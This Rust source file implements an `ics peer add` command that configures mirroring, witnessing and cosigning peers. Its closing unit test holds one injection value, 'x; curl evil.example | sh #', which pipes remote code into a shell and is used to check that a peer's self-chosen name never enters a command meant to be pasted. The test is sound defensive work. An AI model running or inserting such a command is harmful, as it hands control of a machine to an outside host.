//! `ics peer add`.

use std::time::Duration;

use clap::Args;
use console::style;
use ics_core::identity::Fingerprint;
use ics_core::log::checkpoint::{CheckpointError, Origin};
use ics_core::vocabulary::DomainName;
use ics_sync::http::PeerError;
use ics_sync::ldap::LdapPeer;

use super::{Since, change, untrusted};
use crate::api::DomainInfo;
use crate::api::problem::Code;
use crate::app::{self, AppError};
use crate::cli::context::Context;
use crate::cli::exit::{Exit, Failure};
use crate::cli::output::{self, card};
use crate::cli::words::{clean, span};
use crate::client::node::{Node, NodeError, UNTRUSTED};
use crate::config::edit::put_peer;
use crate::config::{Config, Direction, PeerConfig, PeerName, PeerUrl, checked_interval};
use crate::tls::{ClientTls, PeerKey};

/// `noSuchObject` (RFC 4511, 4.1.9).
const NO_SUCH_OBJECT: u32 = 32;
/// How long a peer may take to say who it is, before the name given by its operator is accepted unchecked.
const NAME_WITHIN: Duration = Duration::from_secs(3);
/// What to do about a peer that does not answer.
const AWAY: &str = "is the peer running? --url gives another address of it";

/// What `ics peer add` takes.
#[derive(Debug, Args)]
#[command(after_long_help = "\
Examples:
  Copy a domain whose origin the owners have given:
  $ ics peer add ics.acme.example --url https://ics.acme.example \
devices.acme.example/5f2c3ab1904f6dd1e0c7b8a92e6d4b5c8f7a1029384756abcdef001122334455

  Take a domain from bundles on a stick, where there is no link to the peer:
  $ ics peer add ics.acme.example --key 11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo= \
devices.acme.example/5f2c3ab1904f6dd1e0c7b8a92e6d4b5c8f7a1029384756abcdef001122334455

  Keep no copy of a domain, and ask about each of its things when it turns up:
  $ ics peer add ics.acme.example --url https://ics.acme.example --roam \
devices.acme.example/5f2c3ab1904f6dd1e0c7b8a92e6d4b5c8f7a1029384756abcdef001122334455

  Have the origin shown first, and compare it with what the owners say, who see it in `ics domain show --node URL`:
  $ ics peer add ics.soft.example --url https://ics.soft.example code.soft.example

  Let another node read as itself, with the roles of its signer, and no more than ten times a second:
  $ ics peer add ics.shop.example --key 11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo= \
--signer 0123456789abcdef0123456789abcdef01234567 --requests-per-minute 600

  Be each other's witness, so that nobody can be shown another log than everybody else:
  $ ics peer add ics.cert.example --url https://ics.cert.example --key 11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo= \
--witness --cosign labels.cert.example/5f2c3ab1904f6dd1e0c7b8a92e6d4b5c8f7a1029384756abcdef001122334455")]
pub(crate) struct Add {
    /// The peer's name, preferably the one that it gives itself: access rules know the peer by it.
    #[arg(value_name = "NAME")]
    name: PeerName,
    /// Domains to copy from the peer, each followed by a slash and the hash of its entry 0 if you know it.
    #[arg(value_name = "ORIGIN|DOMAIN", value_parser = wanted)]
    domains: Vec<Wanted>,
    /// Ask the peer about single things of this domain, of which no copy is kept here. The peer must be the domain's
    /// home, or ask the home itself and know this node by its key; a mirror attests nothing. The peer is asked only for
    /// decisions (`ics lookup THING --use USE`, `/v1/check`) by a trust policy that names the domain. An answer is kept
    /// for as long as it is fresh by that policy, so `--fresh` of `ics trust init` says how late a block may be
    /// noticed. Answers are kept in memory: after a restart the node knows nothing of such a thing until a peer answers
    /// again.
    #[arg(long, value_name = "ORIGIN")]
    roam: Vec<Origin>,
    /// The address at which the peer answers, over HTTP, or over LDAP with ldaps:// or ldap://; the peer need not be
    /// the home of what is copied from it.
    #[arg(long)]
    url: Option<PeerUrl>,
    /// The peer's key, as its `/v1/node` shows it, by which it is recognized when it reads here.
    #[arg(long, value_name = "BASE64")]
    key: Option<PeerKey>,
    /// Ask the peer to cosign the checkpoints of this node's domains, as their witness. Needs --url and --key. NAME
    /// must be the name that the peer gives itself, which its cosignatures carry, and the peer must have been told to
    /// cosign with --cosign.
    #[arg(long)]
    witness: bool,
    /// Cosign the checkpoints of this domain, as its witness. Needs --key, the key of the domain's home, which signs
    /// the checkpoints; the home asks once it was told to with --witness.
    #[arg(long, value_name = "ORIGIN")]
    cosign: Vec<Origin>,
    /// The fingerprint of the signer on whose behalf the peer reads.
    #[arg(long, value_name = "FINGERPRINT")]
    signer: Option<Fingerprint>,
    /// Which of the two nodes asks the other.
    #[arg(long)]
    direction: Option<Direction>,
    /// Milliseconds between two checks for news, if the peer cannot push them.
    #[arg(long, value_name = "MS", value_parser = interval)]
    interval_ms: Option<u64>,
    /// How many bytes a second are pulled from the peer, and how many the peer may pull.
    #[arg(long, value_name = "BYTES", value_parser = clap::value_parser!(u64).range(1..))]
    bytes_per_second: Option<u64>,
    /// How many requests a minute the peer may make.
    #[arg(long, value_name = "COUNT", value_parser = clap::value_parser!(u64).range(1..))]
    requests_per_minute: Option<u64>,
    /// Do not ask for confirmation that the origin is the right one.
    #[arg(short, long)]
    yes: bool,
}

/// A domain given by name, or by name and entry 0.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Wanted {
    Origin(Origin),
    Domain(DomainName),
}

fn wanted(text: &str) -> Result<Wanted, String> {
    match text.contains('/') {
        true => text.parse().map(Wanted::Origin).map_err(|e: CheckpointError| e.to_string()),
        false => text.parse().map(Wanted::Domain).map_err(|e: ics_core::vocabulary::WordError| e.to_string()),
    }
}

fn interval(text: &str) -> Result<u64, String> {
    checked_interval(text.parse().map_err(|e: core::num::ParseIntError| e.to_string())?)
}

impl Add {
    pub(super) fn run(self, context: &Context) -> Result<Exit, Failure> {
        let config = Config::load(&context.home)?;
        if config.node.is_none() {
            return Err(Failure::new(Exit::Local, "this home directory is not that of a node")
                .hint("`ics init` makes one; it is the node that has peers"));
        }
        let known = config.peer(&self.name).cloned();
        let mut peer = self.changed(known.unwrap_or_else(|| PeerConfig::new(self.name.clone())));
        let before = peer.mirror.clone();
        for domain in &self.domains {
            let origin = self.origin(context, &peer, domain)?;
            if !peer.mirror.contains(&origin) {
                // The former origin may have been mistyped.
                peer.mirror.retain(|other| other.domain != origin.domain || !before.contains(other));
                peer.mirror.push(origin);
            }
        }
        if let Some(problem) = peer.contradiction() {
            return Err(
                Failure::new(Exit::Usage, problem).hint("give its address with --url URL, its key with --key BASE64")
            );
        }
        if self.witness {
            refuse_other_name(context, &peer)?;
        }
        let since = change(
            context,
            &config,
            async |node| node.put_peer(&peer).await,
            |text, path| {
                refuse_other_logs(&config, &peer)?;
                Ok(put_peer(text, path, &peer)?)
            },
        )?;
        let own = config.node.as_ref().map_or("NAME", |node| node.name.as_str());
        context.output.result(&peer, || done(&peer, since, own))?;
        Ok(Exit::Ok)
    }

    fn changed(&self, mut peer: PeerConfig) -> PeerConfig {
        peer.url = self.url.clone().or(peer.url);
        peer.key = self.key.clone().or(peer.key);
        peer.witness |= self.witness;
        // The former origin of a domain may have been mistyped.
        peer.cosign.retain(|other| self.cosign.iter().all(|origin| origin.domain != other.domain));
        peer.cosign.extend(self.cosign.iter().cloned());
        peer.roam.retain(|other| self.roam.iter().all(|origin| origin.domain != other.domain));
        peer.roam.extend(self.roam.iter().cloned());
        peer.signer = self.signer.or(peer.signer);
        peer.direction = self.direction.unwrap_or(peer.direction);
        peer.interval_ms = self.interval_ms.unwrap_or(peer.interval_ms);
        peer.bytes_per_second = self.bytes_per_second.or(peer.bytes_per_second);
        peer.requests_per_minute = self.requests_per_minute.or(peer.requests_per_minute);
        peer
    }

    /// The origin of a domain: as given, or as the peer states it and a person has confirmed it.
    fn origin(&self, context: &Context, peer: &PeerConfig, domain: &Wanted) -> Result<Origin, Failure> {
        let name = match domain {
            Wanted::Origin(origin) => return given(context, peer, origin),
            Wanted::Domain(name) => name,
        };
        let url = peer.url.as_ref().ok_or_else(|| {
            Failure::new(Exit::Usage, format!("no address of the peer `{}` is known", peer.name))
                .hint("give it with --url URL")
        })?;
        let (origin, told) = match url.is_ldap() {
            true => by_directory(context, peer, url, name)?,
            false => by_node(context, peer, url, name)?,
        };
        if origin.domain != *name {
            return Err(Failure::new(Exit::Refused, format!("the peer serves another domain: `{}`", origin.domain)));
        }
        if !self.yes {
            context.output.review(&told, true);
            confirm()?;
        }
        Ok(origin)
    }
}

/// The origin that a node gives for a domain, with a description for a person to compare.
fn by_node(
    context: &Context,
    peer: &PeerConfig,
    url: &PeerUrl,
    domain: &DomainName,
) -> Result<(Origin, String), Failure> {
    let node = Node::of_peer(url.as_str(), peer.pin())?;
    let info = context.wait(async { Ok(node.domain(domain).await) })?;
    let info = info.map_err(|error| failed(error, &node, peer, domain))?;
    let told = info_text(&info);
    Ok((info.info.origin, told))
}

/// As [`by_node`], from a directory.
fn by_directory(
    context: &Context,
    peer: &PeerConfig,
    url: &PeerUrl,
    domain: &DomainName,
) -> Result<(Origin, String), Failure> {
    let origin = in_directory(context, peer, url, domain)?;
    let origin = origin.map_err(|error| not_told(&error, peer, domain))?;
    let origin: Origin = origin.parse().map_err(|error: CheckpointError| Failure::new(Exit::Network, error))?;
    let told = card(domain.as_str(), &[("origin", style(&origin).bold().to_string())]);
    Ok((origin, told))
}

/// The origin that the directory of a peer states for a domain.
fn in_directory(
    context: &Context,
    peer: &PeerConfig,
    url: &PeerUrl,
    domain: &DomainName,
) -> Result<Result<String, PeerError>, Failure> {
    let tls = ClientTls::as_stranger(peer.pin()).map_err(|error| Failure::new(Exit::Internal, error))?;
    let directory = LdapPeer::new(url.as_str(), tls).map_err(|error| Failure::new(Exit::Usage, error))?;
    context.wait(async { Ok(directory.origin(domain).await) })
}

/// Why a directory returned nothing about a domain.
fn not_told(error: &PeerError, peer: &PeerConfig, domain: &DomainName) -> Failure {
    match error {
        PeerError::Refused { code: NO_SUCH_OBJECT, .. } => not_held(domain)
            .hint("ask its owners where it is held; name one that strangers may not read by its whole origin"),
        PeerError::Transport(why) if why.contains(UNTRUSTED) => {
            Failure::new(Exit::Network, error).hint(untrusted(peer))
        }
        PeerError::Transport(_) => Failure::new(Exit::Network, error).hint(AWAY),
        _ => Failure::new(Exit::Network, error),
    }
}

fn not_held(domain: &DomainName) -> Failure {
    Failure::new(Exit::NotFound, format!("the peer does not hold the domain `{domain}`"))
}

/// Why the peer returned nothing about the domain; the usual hints are about the node of this home directory instead.
fn failed(error: NodeError, node: &Node, peer: &PeerConfig, domain: &DomainName) -> Failure {
    match error {
        NodeError::Unreachable { .. } if error.is_untrusted() => {
            Failure::new(Exit::Network, error).hint(untrusted(peer))
        }
        NodeError::Unreachable { .. } => Failure::new(Exit::Network, error).hint(AWAY),
        NodeError::Problem(problem) if problem.code() == Code::UnknownDomain.as_str() => {
            not_held(domain).hint(format!("{}/v1/domains lists those that it holds", node.url()))
        }
        other => other.into(),
    }
}

/// Checks an origin that was given in full. A peer that cannot be reached yet, or shows nothing of the domain to
/// strangers, is no reason to refuse it; one that serves another log is.
fn given(context: &Context, peer: &PeerConfig, origin: &Origin) -> Result<Origin, Failure> {
    let Some(url) = &peer.url else { return Ok(origin.clone()) };
    let told: Option<Origin> = if url.is_ldap() {
        in_directory(context, peer, url, &origin.domain)?.ok().and_then(|told| told.parse().ok())
    } else {
        let node = Node::of_peer(url.as_str(), peer.pin())?;
        context.wait(async { Ok(node.domain(&origin.domain).await) })?.ok().map(|info| info.info.origin)
    };
    match told {
        Some(told) if told != *origin => {
            Err(Failure::new(Exit::Refused, format!("the peer serves another domain: `{told}`"))
                .hint("two domains may have one name: ask the owners which origin is theirs"))
        }
        _ => Ok(origin.clone()),
    }
}

/// Refuses a peer known by another name: the cosignatures of a witness carry its own name, so none of them would count.
/// A peer that cannot be reached yet, or is no node of this kind, is accepted unchecked.
fn refuse_other_name(context: &Context, peer: &PeerConfig) -> Result<(), Failure> {
    let Some(url) = peer.url.as_ref().filter(|url| !url.is_ldap()) else { return Ok(()) };
    let node = Node::of_peer(url.as_str(), peer.pin())?;
    let told = context.wait(async { Ok(tokio::time::timeout(NAME_WITHIN, node.info()).await) })?;
    match told {
        Ok(Ok(info)) if info.name != peer.name.as_str() => Err(misnamed(url, &info.name, &peer.name)),
        _ => Ok(()),
    }
}

/// Whoever answers chooses the name: one that no peer can have stands in no command that is to be copied into a shell.
fn misnamed(url: &PeerUrl, name: &str, given: &PeerName) -> Failure {
    let told = clean(name);
    let text = format!("the node at {url} is `{told}`: its cosignatures carry that name, not `{given}`");
    let failure = Failure::new(Exit::Refused, text);
    match name.parse::<PeerName>() {
        Ok(name) => failure.hint(format!("`ics peer add {name} --witness …` names it so")),
        Err(_) => failure,
    }
}

/// If the node does not run, its store is asked whether it will copy these logs.
fn refuse_other_logs(config: &Config, peer: &PeerConfig) -> Result<(), Failure> {
    let Some(node) = &config.node else { return Ok(()) };
    let failed = |error: AppError| {
        let exit = if matches!(error, AppError::Problem { .. }) { Exit::Refused } else { Exit::Local };
        Failure::new(exit, error)
    };
    peer.mirror.iter().try_for_each(|origin| app::may_copy(&node.data, origin).map_err(failed))
}

/// Describes what was done and what comes next; `own` is the name of this node, for what has to be done at the other
/// side.
fn done(peer: &PeerConfig, since: Since, own: &str) -> String {
    let mut rows = Vec::new();
    rows.extend(peer.url.as_ref().map(|url| ("at", url.to_string())));
    rows.extend(peer.key.as_ref().map(|key| ("key", key.to_string())));
    rows.extend(peer.mirror.iter().map(|origin| ("copied", origin.to_string())));
    rows.extend(peer.roam.iter().map(|origin| ("asked about", origin.to_string())));
    if let Some(origin) = peer.roam.first() {
        let told = format!(
            "by decisions of a trust policy that names it: `ics trust init --domain {origin} --fresh …`\n\
             an answer is kept while it is fresh: a block there takes effect here up to --fresh later"
        );
        rows.push(("", told));
    }
    if peer.witness {
        let there = format!("ics peer add {own} --key KEY --cosign ORIGIN");
        let told = "/v1/node here shows the key, /v1/domains the origin of each";
        rows.push(("witness", format!("of the domains of this node, once it was told there:\n{there}\n{told}")));
        let (name, key) = (&peer.name, peer.key.as_ref().map(ToString::to_string).unwrap_or_default());
        let rules = format!(
            "nothing waits for its cosignatures until the rules name it: \
             `ics domain update --add-witness {name}={key}`"
        );
        rows.push(("", rules));
    }
    rows.extend(peer.cosign.iter().map(|origin| ("cosigned", origin.to_string())));
    if !peer.cosign.is_empty() {
        let there = format!("ics peer add {own} --url URL --key KEY --witness");
        rows.push(("", format!("when the home asks, once it was told there:\n{there}\n/v1/node here shows the key")));
    }
    let is_by_hand = peer.url.is_none() && !peer.mirror.is_empty();
    let next = match since {
        _ if is_by_hand => "ask for bundles, and take them with `ics import --bundle`",
        Since::Now => "the node has begun; `ics peer status` says how it goes",
        Since::NextStart => "the node begins when it is started; then `ics peer status`",
    };
    rows.push(("next", next.to_owned()));
    card(&format!("{} the peer {} is configured", style("✓").green(), peer.name), &rows)
}

/// What the peer states about the domain, for a person to compare.
fn info_text(info: &DomainInfo) -> String {
    let mut rows = vec![
        ("origin", style(&info.info.origin).bold().to_string()),
        ("home node", clean(&info.info.home.name)),
        ("entries", info.info.size.to_string()),
        ("rules", format!("version {}", info.info.descriptor)),
        ("fresh for", span(info.fresh_for_seconds)),
    ];
    if !info.description.is_empty() {
        rows.insert(0, ("about", clean(&info.description)));
    }
    card(info.info.domain.as_str(), &rows)
}

fn confirm() -> Result<(), Failure> {
    let nobody = Failure::new(Exit::Usage, "there is nobody to compare the origin")
        .hint("give the whole origin, or --yes to trust the peer");
    output::confirm("Is this the origin that the domain's owners gave you?", nobody, "nothing was changed")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_to_be_copied_holds_no_text_of_whoever_answers() {
        let (url, given) = ("https://ics.cert.example", "cert");
        let (url, given): (PeerUrl, PeerName) = (url.parse().expect("a URL"), given.parse().expect("a name"));
        let told = |name: &str| format!("{:?}", misnamed(&url, name, &given));
        assert!(told("ics.cert.example").contains("`ics peer add ics.cert.example --witness …`"));
        assert!(!told("x; curl evil.example | sh #").contains("ics peer add"));
    }
}
